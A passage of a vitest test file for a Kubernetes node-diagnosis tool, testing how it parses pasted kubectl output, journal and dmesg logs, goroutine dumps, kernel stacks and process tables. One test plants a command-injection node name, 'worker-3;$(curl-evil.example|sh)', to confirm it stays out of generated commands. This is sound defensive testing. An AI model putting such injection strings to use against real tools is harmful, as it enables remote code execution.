import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { diagnoseLogs, diagnoseText } from '../../shared/diagnosis/diagnose-text.ts';
import { extractFacts } from '../../shared/diagnosis/extract/index.ts';
import { FactSet } from '../../shared/diagnosis/facts.ts';
import { parseLogLine } from '../../shared/diagnosis/logline.ts';
import { splitEscapedNewlines } from '../../shared/diagnosis/paste/escaped.ts';
import { PasteEvidence } from '../../shared/diagnosis/paste/evidence.ts';
import { GoroutineDump } from '../../shared/diagnosis/paste/goroutines.ts';
import { readJsonLogLine } from '../../shared/diagnosis/paste/json-lines.ts';
import { stackSubsystem } from '../../shared/diagnosis/paste/kernel-stack.ts';
import { PasteReader, readPastedEvidence } from '../../shared/diagnosis/paste/reader.ts';
import { readUnitStatus } from '../../shared/diagnosis/paste/systemctl-status.ts';
import { DiagnosisSchema } from '../../shared/schemas/diagnosis.ts';

const fixture = (name: string) =>
  readFileSync(join(import.meta.dirname, '..', 'fixtures', 'paste', name), 'utf8');

function examples(facts: FactSet, id: Parameters<FactSet['examples']>[0]): string[] {
  return facts.examples(id).map((f) => f.text);
}

describe('kubectl describe node', () => {
  const read = readPastedEvidence(fixture('describe-node.txt'), 'pasted');

  it('reads the node, System Info, conditions (node-problem-detector ones too), pods and events with counts', () => {
    const { bundle } = read;
    expect(bundle.node).toBe('ip-10-0-3-17.eu-west-1.compute.internal');
    expect(bundle.containerRuntimeVersion).toBe('containerd://1.7.11');
    expect(bundle.kubeletVersion).toBe('v1.28.5-eks-5e0fdde');
    expect(bundle.osImage).toBe('Amazon Linux 2');
    expect(bundle.kernelVersion).toBe('5.10.199-190.747.amzn2.x86_64');
    expect(bundle.counts).toEqual({ pods: 14 });
    expect(bundle.conditions?.map((c) => `${c.type}=${c.status}`)).toEqual([
      'KernelDeadlock=False',
      'ReadonlyFilesystem=False',
      'MemoryPressure=False',
      'DiskPressure=False',
      'PIDPressure=False',
      'Ready=False',
    ]);
    expect(bundle.conditions?.at(-1)).toMatchObject({
      reason: 'KubeletNotReady',
      message: 'PLEG is not healthy: pleg was last seen active 3m11.2s ago; threshold is 3m0s',
      lastTransitionTime: '2026-11-23T03:04:27.000Z',
    });
    expect(bundle.events).toEqual([
      expect.objectContaining({ reason: 'NodeNotReady', count: 1, type: 'Normal' }),
      expect.objectContaining({
        reason: 'ContainerGCFailed',
        count: 3,
        message: 'rpc error: code = DeadlineExceeded desc = context deadline exceeded',
        involvedObject: { kind: 'Node', name: 'ip-10-0-3-17.eu-west-1.compute.internal' },
        source: { component: 'kubelet' },
      }),
    ]);
    expect(read.sections).toEqual([{ name: 'pasted', format: 'kubectl-describe-node', line: 1 }]);
  });

  it('gives the diagnosis its context, and one GC event does not make it a container-count verdict', () => {
    const d = DiagnosisSchema.parse(diagnoseText(fixture('describe-node.txt')));
    expect(d.node).toBe('ip-10-0-3-17.eu-west-1.compute.internal');
    expect(d.observed).toMatchObject({
      ready: 'False',
      runtime: 'containerd',
      runtimeVersion: 'containerd://1.7.11',
      kubeletVersion: 'v1.28.5-eks-5e0fdde',
      plegAgeSeconds: 191.2,
    });
    // 14 pods say the node is not crowded: the GC failure is a symptom, not a count problem.
    const count = d.causes.find((c) => c.id === 'container_count');
    expect(count?.confidence ?? 0).toBeLessThan(0.5);
    expect(d.missing.map((m) => m.how)).toContain('timeout 10 crictl ps');
    expect(d.missing.map((m) => m.how).join('\n')).not.toMatch(/\bdocker\b/);
  });

  it('names the node (shell-quoted) and uses crictl in the commands once a cause is found', () => {
    const journal =
      'Nov 23 03:04:27 ip-10-0-3-17 kubelet[1893]: E1123 03:04:27.118180    1893 remote_runtime.go:407] "ListPodSandbox with filter from runtime service failed" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded" filter="nil"';
    const d = diagnoseText(`${fixture('describe-node.txt')}\n${journal}\n`);
    expect(d.verdict).toBe('runtime_down');
    const commands = d.causes[0]?.commands.map((c) => c.command).join('\n') ?? '';
    expect(commands).toContain("kubectl describe node 'ip-10-0-3-17.eu-west-1.compute.internal'");
    expect(commands).toContain('crictl');
    expect(commands).not.toMatch(/\bdocker (?:ps|inspect)/);
    // The journal line is cited at its line in the paste, after the describe output and an empty line.
    const at = fixture('describe-node.txt').split('\n').length + 1;
    expect(d.causes[0]?.evidence.map((e) => e.source)).toContain(`pasted:${at}`);
  });

  it('reads the events table of older kubectl describe (FirstSeen, LastSeen, Count, From, SubObjectPath)', () => {
    const old = [
      'Name:                   worker-3',
      'Roles:                  <none>',
      'Events:',
      '  FirstSeen  LastSeen  Count  From                 SubObjectPath  Type     Reason             Message',
      '  ---------  --------  -----  ----                 -------------  ----     ------             -------',
      '  1h         1m        42     {kubelet worker-3}                  Warning  ContainerGCFailed  rpc error: code = 4 desc = context deadline exceeded',
    ].join('\n');
    expect(readPastedEvidence(old, 'p').bundle.events).toEqual([
      expect.objectContaining({
        reason: 'ContainerGCFailed',
        type: 'Warning',
        count: 42,
        source: { component: 'kubelet', host: 'worker-3' },
      }),
    ]);
  });

  it('never puts a pasted name that is not a node name into a command', () => {
    const hostile = fixture('describe-node.txt').replace(
      /^Name: +\S+$/m,
      "Name:               worker-3;$(curl-evil.example|sh)'",
    );
    const journal =
      'Nov 23 03:04:27 worker-3 kubelet[1893]: E1123 03:04:27.118180    1893 remote_runtime.go:407] "ListPodSandbox with filter from runtime service failed" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded" filter="nil"';
    const d = diagnoseText(`${hostile}\n${journal}\n`);
    const commands = d.causes.flatMap((c) => c.commands.map((x) => x.command)).join('\n');
    // The refused name is not the node; the journal's host column (a valid name) is, as the weaker claim.
    expect(d.node).toBe('worker-3');
    expect(d.observed.runtime).toBe('containerd');
    expect(commands).toContain("kubectl describe node 'worker-3'");
    expect(commands).not.toContain('evil.example');
  });

  it('reads only the events of a described pod (its conditions are not the node’s)', () => {
    const pod = [
      'Name:             web-7d9f',
      'Namespace:        default',
      'Conditions:',
      '  Type              Status',
      '  Ready             False',
      'Events:',
      '  Type     Reason         Age                From     Message',
      '  ----     ------         ----               ----     -------',
      '  Warning  FailedKillPod  5m (x12 over 1h)   kubelet  error killing pod: rpc error: code = DeadlineExceeded desc = context deadline exceeded',
    ].join('\n');
    const { bundle } = readPastedEvidence(pod, 'pasted');
    expect(bundle.node).toBeUndefined();
    expect(bundle.conditions).toBeUndefined();
    expect(bundle.events).toEqual([expect.objectContaining({ reason: 'FailedKillPod', count: 12 })]);
  });
});

describe('kubectl get events and get nodes', () => {
  it('reads kubectl get events, with and without -A, and -o wide with its COUNT column', () => {
    const plain = [
      'LAST SEEN   TYPE      REASON              OBJECT            MESSAGE',
      '12m         Normal    NodeNotReady        node/worker-7     Node worker-7 status is now: NodeNotReady',
      '2m5s        Warning   ContainerGCFailed   node/worker-7     rpc error: code = DeadlineExceeded desc = context deadline exceeded',
    ].join('\n');
    const all = [
      'NAMESPACE     LAST SEEN   TYPE      REASON          OBJECT              MESSAGE',
      'kube-system   3m          Warning   Unhealthy       pod/coredns-5d78c   Readiness probe failed: HTTP probe failed with statuscode: 503',
      'default       40s         Normal    NodeNotReady    node/worker-7       Node worker-7 status is now: NodeNotReady',
    ].join('\n');
    const wide = [
      'LAST SEEN   TYPE      REASON              OBJECT          SUBOBJECT   SOURCE              MESSAGE                                                               FIRST SEEN   COUNT   NAME',
      '2m5s        Warning   ContainerGCFailed   node/worker-7               kubelet, worker-7   rpc error: code = DeadlineExceeded desc = context deadline exceeded   64m          17      worker-7.17a9c1e2b3d4f5a6',
    ].join('\n');
    expect(readPastedEvidence(plain, 'p').bundle.events).toEqual([
      expect.objectContaining({ reason: 'NodeNotReady', involvedObject: { kind: 'Node', name: 'worker-7' } }),
      expect.objectContaining({ reason: 'ContainerGCFailed', type: 'Warning', count: 1 }),
    ]);
    expect(readPastedEvidence(all, 'p').bundle.events?.[0]).toMatchObject({
      reason: 'Unhealthy',
      involvedObject: { kind: 'Pod', name: 'coredns-5d78c', namespace: 'kube-system' },
    });
    expect(readPastedEvidence(wide, 'p').bundle.events).toEqual([
      expect.objectContaining({
        reason: 'ContainerGCFailed',
        count: 17,
        source: { component: 'kubelet', host: 'worker-7' },
        message: 'rpc error: code = DeadlineExceeded desc = context deadline exceeded',
      }),
    ]);
  });

  it('counts repeated events (x4 over 1h): repeated NodeNotReady and NodeReady is flapping', () => {
    const events = [
      'LAST SEEN          TYPE     REASON         OBJECT          MESSAGE',
      '1m (x4 over 1h)    Normal   NodeReady      node/worker-7   Node worker-7 status is now: NodeReady',
      '2m (x4 over 1h)    Normal   NodeNotReady   node/worker-7   Node worker-7 status is now: NodeNotReady',
    ].join('\n');
    const { bundle } = readPastedEvidence(events, 'p');
    expect(bundle.events?.map((e) => e.count)).toEqual([4, 4]);
    expect(extractFacts(bundle).examples('node.flapping')[0]?.text).toBe('NodeNotReady ×4, NodeReady ×4');
  });

  it('reads kubectl get nodes -o wide: the NotReady row, its versions, an OS image with spaces', () => {
    const { bundle } = readPastedEvidence(fixture('mixed-paste.txt'), 'pasted');
    expect(bundle).toMatchObject({
      node: 'worker-7',
      kubeletVersion: 'v1.27.8',
      osImage: 'Ubuntu 22.04.3 LTS',
      kernelVersion: '5.15.0-91-generic',
      containerRuntimeVersion: 'containerd://1.7.2',
    });
    // NotReady is Ready=False or Unknown: no condition is made up from the STATUS column.
    expect(bundle.conditions).toBeUndefined();
  });
});

describe('Node objects', () => {
  const yaml = [
    'apiVersion: v1',
    'kind: Node',
    'metadata:',
    '  annotations:',
    '    node.alpha.kubernetes.io/ttl: "0"',
    '  labels:',
    '    kubernetes.io/hostname: worker-7',
    '  name: worker-7',
    'spec:',
    '  podCIDR: 10.244.7.0/24',
    '  taints:',
    '  - effect: NoSchedule',
    '    key: node.kubernetes.io/unreachable',
    'status:',
    '  conditions:',
    '  - lastHeartbeatTime: "2026-11-23T03:07:12Z"',
    '    lastTransitionTime: "2026-11-02T10:15:01Z"',
    '    message: kernel has no deadlock',
    '    reason: KernelHasNoDeadlock',
    '    status: "False"',
    '    type: KernelDeadlock',
    '  - lastHeartbeatTime: "2026-11-23T03:02:44Z"',
    '    lastTransitionTime: "2026-11-23T03:03:30Z"',
    '    message: Kubelet stopped posting node status.',
    '    reason: NodeStatusUnknown',
    '    status: Unknown',
    '    type: Ready',
    '  nodeInfo:',
    '    architecture: amd64',
    '    containerRuntimeVersion: docker://20.10.25',
    '    kernelVersion: 5.4.0-1103-aws',
    '    kubeletVersion: v1.23.17',
    '    osImage: Ubuntu 20.04.6 LTS',
  ].join('\n');

  it('reads kubectl get node -o yaml: name, conditions, nodeInfo', () => {
    const read = readPastedEvidence(`${yaml}\nNov 23 03:04:00 worker-7 kubelet[1]: I1123 started\n`, 'p');
    expect(read.bundle).toMatchObject({
      node: 'worker-7',
      containerRuntimeVersion: 'docker://20.10.25',
      kubeletVersion: 'v1.23.17',
      osImage: 'Ubuntu 20.04.6 LTS',
      kernelVersion: '5.4.0-1103-aws',
    });
    expect(read.bundle.conditions).toEqual([
      expect.objectContaining({ type: 'KernelDeadlock', status: 'False', reason: 'KernelHasNoDeadlock' }),
      expect.objectContaining({
        type: 'Ready',
        status: 'Unknown',
        message: 'Kubelet stopped posting node status.',
        lastTransitionTime: '2026-11-23T03:03:30Z',
      }),
    ]);
    expect(read.logSources).toContain('kubelet');
    // The node's runtime picks the commands.
    const d = diagnoseText(yaml);
    expect(d.observed.runtime).toBe('docker');
    expect(d.causes[0]?.commands.map((c) => c.command).join('\n')).toContain("'worker-7'");
  });

  it('reads kubectl get node -o json (and a List, taking the node that is not Ready)', () => {
    const node = (name: string, ready: string) => ({
      apiVersion: 'v1',
      kind: 'Node',
      metadata: { name },
      status: {
        conditions: [
          { type: 'Ready', status: ready, reason: 'KubeletNotReady', message: 'PLEG is not healthy' },
        ],
        nodeInfo: { containerRuntimeVersion: 'cri-o://1.28.2', kubeletVersion: 'v1.28.4', osImage: 'RHCOS' },
      },
    });
    const single = JSON.stringify(node('worker-2', 'False'), null, 4);
    expect(readPastedEvidence(single, 'p').bundle).toMatchObject({
      node: 'worker-2',
      containerRuntimeVersion: 'cri-o://1.28.2',
      conditions: [{ type: 'Ready', status: 'False' }],
    });
    const list = JSON.stringify({ kind: 'List', items: [node('a', 'True'), node('b', 'False')] }, null, 4);
    expect(readPastedEvidence(list, 'p').bundle.node).toBe('b');
  });
});

describe('log formats', () => {
  it.each([
    ['short', 'Nov 23 03:07:58 worker-7 containerd[812]: msg', 'containerd'],
    ['short-precise', 'Nov 23 03:07:58.123456 worker-7 dockerd[900]: msg', 'dockerd'],
    ['short-iso', '2026-11-23T03:07:58+0000 worker-7 kubelet[1893]: msg', 'kubelet'],
    ['short-iso (newer systemd)', '2026-11-23T03:07:58+00:00 worker-7 kubelet[1893]: msg', 'kubelet'],
    ['short-iso-precise', '2026-11-23T03:07:58.123456+0000 worker-7 crio[700]: msg', 'crio'],
    ['short-full', 'Mon 2026-11-23 03:07:58 UTC worker-7 systemd[1]: msg', 'systemd'],
    ['short-monotonic', '[ 1834512.118201] worker-7 kubelet[1893]: msg', 'kubelet'],
    ['short-monotonic kernel', '[ 1834512.118201] worker-7 kernel: msg', 'kernel'],
    ['short-unix', '1795403278.118201 worker-7 containerd[812]: msg', 'containerd'],
    ['dmesg', '[1834512.118201] msg', 'kernel'],
    ['dmesg -T', '[Mon Nov 23 03:07:58 2026] msg', 'kernel'],
    ['dmesg --time-format iso', '2026-11-23T03:07:58,118201+00:00 msg', 'kernel'],
  ] as const)('journalctl/dmesg %s: the program and the bare message', (_mode, line, component) => {
    expect(parseLogLine(line, 'unknown')).toMatchObject({ component, message: 'msg' });
  });

  it('keeps a dmesg line naming a device as the kernel’s (not a journald identifier)', () => {
    expect(parseLogLine('[    5.118201] usb 1-1: new high-speed USB device', 'unknown').component).toBe(
      'kernel',
    );
  });

  it('reads journalctl -o json: MESSAGE cited, the identifier (or unit, or kernel transport) as the program', () => {
    const record = {
      __CURSOR: 's=1;i=2',
      __REALTIME_TIMESTAMP: '1795403278118201',
      _SYSTEMD_UNIT: 'kubelet.service',
      SYSLOG_IDENTIFIER: 'kubelet',
      _PID: '1893',
      MESSAGE:
        'E1123 03:07:38.502290    1893 kubelet.go:2368] "Skipping pod synchronization" err="PLEG is not healthy: pleg was last seen active 3m11.2s ago; threshold is 3m0s"',
    };
    expect(readJsonLogLine(JSON.stringify(record))).toEqual({
      format: 'journal-json',
      component: 'kubelet',
      text: record.MESSAGE,
    });
    const kernel = { _TRANSPORT: 'kernel', MESSAGE: [73, 78, 70, 79] };
    expect(readJsonLogLine(JSON.stringify(kernel))).toMatchObject({ component: 'kernel', text: 'INFO' });
    const unitOnly = { _SYSTEMD_UNIT: 'containerd.service', MESSAGE: 'msg' };
    expect(readJsonLogLine(JSON.stringify(unitOnly))?.component).toBe('containerd');

    const read = readPastedEvidence(`${JSON.stringify(record)}\n`, 'journal.json');
    expect(read.facts.examples('pleg.unhealthy')[0]).toMatchObject({
      source: 'journal.json:1',
      text: record.MESSAGE,
      value: 191.2,
    });
    expect(read.logSources).toEqual(['kubelet']);
  });

  it('reads journalctl -o json-pretty records like -o json ones', () => {
    const record = {
      _SYSTEMD_UNIT: 'docker.service',
      SYSLOG_IDENTIFIER: 'dockerd',
      MESSAGE:
        'http: Accept error: accept unix /var/run/docker.sock: accept4: too many open files; retrying in 1s',
    };
    const read = readPastedEvidence(`${JSON.stringify(record, null, '\t')}\n`, 'pretty');
    expect(read.facts.examples('fd.emfile')[0]).toMatchObject({ source: 'pretty:1', text: record.MESSAGE });
    expect(read.logSources).toEqual(['dockerd']);
  });

  it('reads klog JSON as the text klog would print, attributed to the kubelet by its caller', () => {
    const line = JSON.stringify({
      ts: 1795403278118.2,
      caller: 'pleg/generic.go:205',
      msg: 'GenericPLEG: Unable to retrieve pods',
      err: 'rpc error: code = DeadlineExceeded desc = context deadline exceeded',
    });
    expect(readJsonLogLine(line)).toEqual({
      format: 'klog-json',
      component: 'kubelet',
      text: '"GenericPLEG: Unable to retrieve pods" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded"',
    });
    expect(examples(readPastedEvidence(line, 'k').facts, 'pleg.relist_error')).toHaveLength(1);
  });

  it('reads logrus text and JSON (dockerd, containerd) alike', () => {
    const text =
      'time="2026-11-23T03:07:58.118201Z" level=error msg="failed to delete task" error="context deadline exceeded" id=3f1c2d9e8a7b';
    expect(parseLogLine(text, 'containerd')).toMatchObject({ component: 'containerd', attribution: 'named' });
    const json = JSON.stringify({
      level: 'error',
      msg: 'failed to delete task',
      error: 'context deadline exceeded',
      id: '3f1c2d9e8a7b',
      time: '2026-11-23T03:07:58.118201Z',
    });
    const read = readJsonLogLine(json);
    expect(read?.text).toBe(
      'level=error msg="failed to delete task" error="context deadline exceeded" id="3f1c2d9e8a7b"',
    );
  });

  it('splits text whose newlines arrived escaped, and leaves a line that merely quotes output alone', () => {
    const blob =
      '"Nov 23 03:07:38 worker-7 kubelet[1893]: E1123 03:07:38.502290    1893 kubelet.go:2368] \\"Skipping pod synchronization\\" err=\\"PLEG is not healthy: pleg was last seen active 3m11.2s ago; threshold is 3m0s\\"\\nNov 23 03:07:39 worker-7 dockerd[900]: http: Accept error: accept unix /var/run/docker.sock: accept4: too many open files; retrying in 1s\\n"';
    const pieces = splitEscapedNewlines(blob);
    expect(pieces?.[0]).toContain('"Skipping pod synchronization" err="PLEG is not healthy');
    expect(pieces?.[1]).toMatch(/^Nov 23 03:07:39 worker-7 dockerd\[900\]/);
    const quoted =
      'Nov 23 03:07:38 worker-7 kubelet[1893]: I1123 prober.go:107] "Probe failed" output="line one\\nline two\\n"';
    expect(splitEscapedNewlines(quoted)).toBeUndefined();

    const read = readPastedEvidence(`some context\n${blob}\n`, 'slack');
    expect(read.facts.examples('fd.emfile')[0]?.source).toBe('slack:2');
    expect(read.facts.max('pleg.unhealthy')).toBe(191.2);
    expect(read.sections.map((s) => s.format)).toEqual(['escaped-newlines']);
  });

  it('reads plain `journalctl -o cat` lines by the origin of the file, or by their content', () => {
    const cat =
      '"ListPodSandbox with filter from runtime service failed" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded"\n';
    const facts = new FactSet();
    const evidence = new PasteEvidence(facts);
    const reader = new PasteReader(evidence, 'kubelet.log', 'kubelet');
    reader.push(cat);
    reader.end();
    expect(facts.has('runtime.list_timeout')).toBe(true);
    expect(evidence.logSources).toEqual(['kubelet']);
  });
});

describe('goroutine dumps', () => {
  it('finds the relist goroutine parked on a channel send for minutes: the kubelet’s own deadlock', () => {
    const read = readPastedEvidence(fixture('goroutines-kubelet.txt'), 'dump.txt');
    expect(read.facts.examples('kubelet.relist_deadlock')[0]).toMatchObject({
      source: 'dump.txt:1',
      value: 1140,
    });
    expect(examples(read.facts, 'kubelet.relist_deadlock')[0]).toContain(
      'goroutine 386 [chan send, 1140 minutes]: k8s.io/kubernetes/pkg/kubelet/pleg.(*GenericPLEG).relist()',
    );
    expect(read.facts.has('runtime.call_blocked')).toBe(false);
    const d = diagnoseText(fixture('goroutines-kubelet.txt'));
    expect(d.verdict).toBe('kubelet_defect');
  });

  it('finds relist blocked inside a runtime gRPC call: the runtime is not answering', () => {
    const read = readPastedEvidence(fixture('goroutines-runtime-call.txt'), 'dump.txt');
    const [fact] = read.facts.examples('runtime.call_blocked');
    expect(fact?.value).toBe(47);
    expect(fact?.text).toMatch(/^goroutine 512 \[select, 47 minutes\]: .*\(inside PLEG relist\)$/);
    expect(read.facts.has('kubelet.relist_deadlock')).toBe(false);
    expect(diagnoseText(fixture('goroutines-runtime-call.txt')).verdict).toBe('runtime_down');
  });

  it('counts a pile of goroutines blocked in one place as one fact, and ignores short waits', () => {
    const goroutine = (id: number, minutes: number) =>
      [
        `goroutine ${id} [select, ${minutes} minutes]:`,
        'net/http.(*persistConn).roundTrip(0xc421dadb00, 0xc421ab7960, 0x0, 0x0, 0x0)',
        '        /usr/local/go/src/net/http/transport.go:2652 +0x93b',
        '',
      ].join('\n');
    const dump = new GoroutineDump();
    const text = [goroutine(10, 12), goroutine(11, 31), goroutine(12, 12)].join('\n');
    text.split('\n').forEach((line, i) => {
      dump.line(line, i + 1);
    });
    const facts = new FactSet();
    dump.addFacts(facts, (line) => `d:${line}`);
    expect(examples(facts, 'kubelet.http_blocked')).toEqual([
      '3 goroutines, up to 31 minutes, e.g. goroutine 10 [select, 12 minutes]: net/http.(*persistConn).roundTrip()',
    ]);
    expect(facts.max('kubelet.http_blocked')).toBe(31);

    const shortWait = new GoroutineDump();
    for (const line of goroutine(13, 0).replace(', 0 minutes', '').split('\n')) shortWait.line(line, 1);
    expect(shortWait.summary()).toEqual({ goroutines: 1, places: [] });
  });

  it("finds CRI-O parked in one container's stop path, not a stop still within its deadline", () => {
    // Round 18 (r18-runtime): frames as Go prints cri-o's internal/oci (1.28 on).
    const stop = (minutes: number) =>
      [
        `goroutine 5120 [chan send, ${minutes} minutes]:`,
        'github.com/cri-o/cri-o/internal/oci.(*Container).WaitOnStopTimeout(0xc000a1c000, {0x2a1e7a8, 0xc001f0e0c0}, 0x1e)',
        '	/go/src/github.com/cri-o/cri-o/internal/oci/container.go:585 +0xd5',
        'github.com/cri-o/cri-o/internal/oci.(*runtimeOCI).StopContainer(0xc0003a2010, {0x2a1e7a8, 0xc001f0e0c0}, 0xc000a1c000, 0x1e)',
        '	/go/src/github.com/cri-o/cri-o/internal/oci/runtime_oci.go:880 +0x3b4',
      ].join('\n');
    expect(readPastedEvidence(stop(412), 'c').facts.examples('runtime.stop_blocked')[0]?.value).toBe(412);
    expect(readPastedEvidence(stop(2), 'c').facts.has('runtime.stop_blocked')).toBe(false);
  });

  it('finds a runtime waiting on a shim (ttrpc) and reads dumps given as bundle command output', () => {
    const containerd = [
      'goroutine 90211 [select, 38 minutes]:',
      'github.com/containerd/ttrpc.(*Client).dispatch(0xc000a1c000, {0x1c1e7a8, 0xc001f0e0c0}, 0xc000e2c000, 0xc000e2c040)',
      '	/go/src/github.com/containerd/containerd/vendor/github.com/containerd/ttrpc/client.go:163 +0x2a5',
      'github.com/containerd/containerd/runtime/v2/task.(*taskClient).State(0xc0005a2010, {0x1c1e7a8, 0xc001f0e0c0}, 0xc000f3e0a0)',
      '	/go/src/github.com/containerd/containerd/runtime/v2/task/shim.pb.go:3421 +0x98',
    ].join('\n');
    const read = readPastedEvidence(containerd, 'c');
    expect(read.facts.examples('runtime.shim_blocked')[0]?.value).toBe(38);
    const bundled = extractFacts({ commandOutputs: { 'containerd goroutine dump': containerd } });
    expect(bundled.examples('runtime.shim_blocked')[0]?.source).toBe(
      'commandOutputs["containerd goroutine dump"]:1',
    );
  });
});

describe('kernel stacks (/proc/PID/stack)', () => {
  it.each([
    [
      'XFS',
      [
        '[<0>] kmem_zone_alloc+0x61/0xe0 [xfs]',
        '[<0>] xfs_buf_item_init+0x31/0x160 [xfs]',
        '[<0>] ovl_destroy_inode+0x15/0x60 [overlay]',
      ],
    ],
    [
      'NFS',
      [
        '[<0>] rpc_wait_bit_killable+0x1e/0xa0 [sunrpc]',
        '[<0>] __rpc_execute+0xe5/0x440 [sunrpc]',
        '[<0>] nfs4_proc_getattr+0x5b/0x110 [nfsv4]',
      ],
    ],
    [
      'the cgroup freezer (frozen cgroup)',
      ['[<0>] __refrigerator+0x3f/0x160', '[<0>] get_signal+0x7c1/0x880', '[<0>] do_signal+0x36/0x610'],
    ],
    [
      'ext4/jbd2',
      [
        '[<ffffffff810a2b4d>] io_schedule+0x16/0x40',
        '[<ffffffff8124a11e>] jbd2_log_wait_commit+0xae/0x120 [jbd2]',
      ],
    ],
    ['Ceph/RBD', ['[<0>] ceph_mdsc_do_request+0x1a3/0x2a0 [ceph]']],
    ['FUSE', ['[<0>] request_wait_answer+0x133/0x210 [fuse]', '[<0>] fuse_simple_request+0xdd/0x1a0 [fuse]']],
    ['process exit', ['[<0>] do_exit+0x35a/0xb10', '[<0>] do_group_exit+0x3a/0xa0']],
    ['block I/O', ['[<0>] io_schedule+0x16/0x40', '[<0>] wait_on_page_bit_common+0x10c/0x3a0']],
    [
      'overlayfs',
      ['[<0>] ovl_copy_up_one+0x6b3/0xb20 [overlay]', '[<0>] ovl_copy_up_flags+0xa6/0xf0 [overlay]'],
    ],
    ['cgroup management', ['[<0>] cgroup_kn_lock_live+0x46/0xe0', '[<0>] cgroup_mkdir+0x2e/0x400']],
  ])('names the subsystem: %s', (name, lines) => {
    expect(stackSubsystem(lines)?.subsystem.name).toBe(name);
  });

  it('turns a stuck runc init in XFS into a wedged-container verdict with the person’s note', () => {
    const paste = [
      'docker inspect on that container hangs. /proc/<runc init pid>/stack:',
      '[<0>] kmem_cache_alloc+0x162/0x1c0',
      '[<0>] kmem_zone_alloc+0x61/0xe0 [xfs]',
      '[<0>] xfs_buf_item_init+0x31/0x160 [xfs]',
      '[<0>] xfs_inactive+0x9e/0x140 [xfs]',
      '[<0>] ovl_destroy_inode+0x15/0x60 [overlay]',
    ].join('\n');
    const read = readPastedEvidence(paste, 'p');
    expect(read.facts.examples('proc.dstate_storage')[0]).toEqual({
      id: 'proc.dstate_storage',
      source: 'p:2',
      text: 'kernel stack in XFS: [<0>] kmem_zone_alloc+0x61/0xe0 [xfs]',
    });
    expect(diagnoseText(paste).verdict).toBe('zombie_shim_hang');
  });
});

describe('kernel call traces (hung-task reports)', () => {
  const dmesg = [
    '[1834512.118201] INFO: task runc:[2:INIT]:40211 blocked for more than 120 seconds.',
    '[1834512.118230]       Not tainted 5.10.199-190.747.amzn2.x86_64 #1',
    '[1834512.118244] "echo 0 > /proc/sys/kernel/hung_task_timeout_secs" disables this message.',
    '[1834512.118260] task:runc:[2:INIT]  state:D stack:    0 pid:40211 ppid: 40190 flags:0x00000000',
    '[1834512.118262] Call Trace:',
    '[1834512.118270]  __schedule+0x26e/0x880',
    '[1834512.118273]  schedule+0x46/0xb0',
    '[1834512.118276]  rwsem_down_write_slowpath+0x32f/0x4f0',
    '[1834512.118290]  ? xfs_ilock+0x7a/0x110 [xfs]',
    '[1834512.118300]  xfs_vn_setattr+0x5e/0x90 [xfs]',
    '[1834512.118310]  ovl_setattr+0x10a/0x1c0 [overlay]',
    '[1834512.118320]  do_syscall_64+0x33/0x40',
    '[1834512.118322]  entry_SYSCALL_64_after_hwframe+0x61/0xc6',
    '[1834512.118330] RIP: 0033:0x55d5e1a3c0ee',
    '[1834512.118340] eth0: renamed from veth1234',
  ].join('\n');

  it('names the subsystem the blocked task waits in, from dmesg or the journal', () => {
    const read = readPastedEvidence(dmesg, 'dmesg.txt');
    expect(read.facts.examples('proc.dstate_storage')[0]).toEqual({
      id: 'proc.dstate_storage',
      source: 'dmesg.txt:5',
      text: 'kernel stack in XFS: ? xfs_ilock+0x7a/0x110 [xfs]',
    });
    expect(read.facts.has('kernel.hung_task')).toBe(true);
    const journal = dmesg.replace(/^\[1834512\.\d+\]/gm, 'Nov 23 03:07:58 worker-7 kernel:');
    expect(readPastedEvidence(journal, 'j').facts.examples('proc.dstate_storage')[0]?.source).toBe('j:5');
  });

  it('leaves a trace that does not start in the scheduler (an OOM report) alone', () => {
    const oom = [
      '[100.1] java invoked oom-killer: gfp_mask=0x100cca(GFP_HIGHUSER_MOVABLE), order=0, oom_score_adj=968',
      '[100.2] Call Trace:',
      '[100.3]  dump_stack+0x57/0x70',
      '[100.4]  dump_header+0x4a/0x1f0',
      '[100.5]  oom_kill_process.cold+0xb/0x10',
      '[100.6]  xfs_filemap_fault+0x36/0x50 [xfs]',
    ].join('\n');
    expect(readPastedEvidence(oom, 'd').facts.has('proc.dstate_storage')).toBe(false);
  });
});

describe('process tables', () => {
  it('tells a zombie under containerd-shim (ps -ef, <defunct>) from chronyd’s', () => {
    const ps = [
      'UID          PID    PPID  C STIME TTY          TIME CMD',
      'root           1       0  0 Nov02 ?        00:12:01 /usr/lib/systemd/systemd --switched-root --system',
      'root        4242       1  0 Nov20 ?        00:00:03 /usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 3f1c2d9e8a7b -address /run/containerd/containerd.sock',
      'root        4260    4242  0 Nov20 ?        00:00:00 [java] <defunct>',
      'chrony       733       1  0 Nov02 ?        00:00:02 /usr/sbin/chronyd -F 2',
      'chrony      9120     733  0 Nov22 ?        00:00:00 [chronyd] <defunct>',
    ].join('\n');
    const journal =
      'Nov 23 03:07:58 worker-7 containerd[812]: time="2026-11-23T03:07:58Z" level=info msg="shim reaped"';
    const read = readPastedEvidence(`${ps}\n${journal}`, 'p');
    expect(read.bundle.commandOutputs).toEqual({ ps });
    expect(read.facts.examples('runtime.shim_reaped')[0]?.source).toBe('p:7');
    const d = diagnoseText(ps);
    const cited = d.causes.flatMap((c) => c.evidence).map((e) => e.text);
    expect(cited.find((t) => t.startsWith('4260'))).toContain('parent 4242 /usr/bin/containerd-shim-runc-v2');
    expect(d.verdict).toBe('zombie_shim_hang');
    const chronyOnly = diagnoseText(
      ps
        .split('\n')
        .filter((l) => !/4242|4260/.test(l))
        .join('\n'),
    );
    expect(chronyOnly.verdict).toBe('unknown');
  });

  it('reads ps aux D states and top -b with its summary (load average, iowait)', () => {
    const top = [
      'top - 03:09:12 up 21 days,  4:12,  1 user,  load average: 212.41, 198.77, 150.02',
      'Tasks: 812 total,   3 running, 640 sleeping,   0 stopped,  31 zombie',
      '%Cpu(s):  2.1 us,  4.3 sy,  0.0 ni,  1.2 id, 92.1 wa,  0.0 hi,  0.3 si,  0.0 st',
      'MiB Mem :  31628.1 total,    412.3 free,  29811.4 used,   1404.4 buff/cache',
      '',
      '    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND',
